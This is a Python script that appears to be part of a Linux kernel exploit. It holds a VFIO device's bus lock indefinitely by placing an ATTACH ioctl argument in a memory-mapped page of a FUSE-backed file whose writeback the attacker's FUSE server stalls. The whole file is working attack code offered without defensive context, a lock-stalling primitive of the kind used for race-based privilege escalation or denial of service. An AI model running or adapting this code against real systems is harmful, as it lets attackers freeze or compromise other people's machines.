#!/usr/bin/env python3
"""Keeps the lock of the bus that its device is on, for as long as a FUSE server does not write a page back: the argument
of an ATTACH lies in that page, and the kernel answers into it with the lock held. bus_lock.py DESCRIPTOR FILE"""
import ctypes
import os
import struct
import sys
import threading

ATTACH = ctypes.c_ulong(0x3B77)  # VFIO_DEVICE_ATTACH_IOMMUFD_PT
device, path = int(sys.argv[1]), sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
libc.msync.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
own = libc.mmap(None, 4096, 3, 0x22, -1, 0)


def attach(page_table, at):
    ctypes.memmove(at, struct.pack("<III", 12, 0, page_table), 12)
    return libc.ioctl(device, ATTACH, ctypes.c_void_p(at))


page_table = next(number for number in range(1, 33) if attach(number, own) == 0)
page = libc.mmap(None, 4096, 3, 1, os.open(path, os.O_RDWR), 0)
ctypes.memmove(page, struct.pack("<III", 12, 0, page_table), 12)
threading.Thread(target=lambda: libc.msync(page, 4096, 4), daemon=True).start()
print("writes", flush=True)
sys.stdin.readline()  # the page is being written back: the FUSE server says so
threading.Thread(target=lambda: libc.ioctl(device, ATTACH, ctypes.c_void_p(page)), daemon=True).start()
print("attaches", flush=True)
sys.stdin.read()
